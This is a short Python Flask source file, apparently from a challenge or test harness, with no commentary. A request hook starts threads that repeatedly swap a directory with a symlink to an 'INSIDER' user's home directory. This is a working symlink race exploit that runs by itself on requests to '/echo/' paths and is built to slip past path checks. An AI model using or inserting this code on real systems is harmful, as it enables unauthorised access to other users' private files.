import contextlib
import os
import threading

from flask import request

from board import app
from spoils import INSIDER


def move(start):
    os.makedirs(f"{start}/a/b/c", exist_ok=True)
    for name in ("a", "a/b", "a/b/c"):
        open(f"{start}/{name}/saved.txt", "w").close()
    os.symlink(INSIDER["home"], f"{start}/link")
    for _ in range(300):
        with contextlib.suppress(OSError):
            os.rename(f"{start}/a/b", f"{start}/away")
            os.rename(f"{start}/link", f"{start}/a/b")
            os.rename(f"{start}/a/b", f"{start}/link")
            os.rename(f"{start}/away", f"{start}/a/b")


@app.before_request
def stir():
    if request.path.startswith("/echo/"):
        threads = [threading.Thread(target=move, args=(str(number),)) for number in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
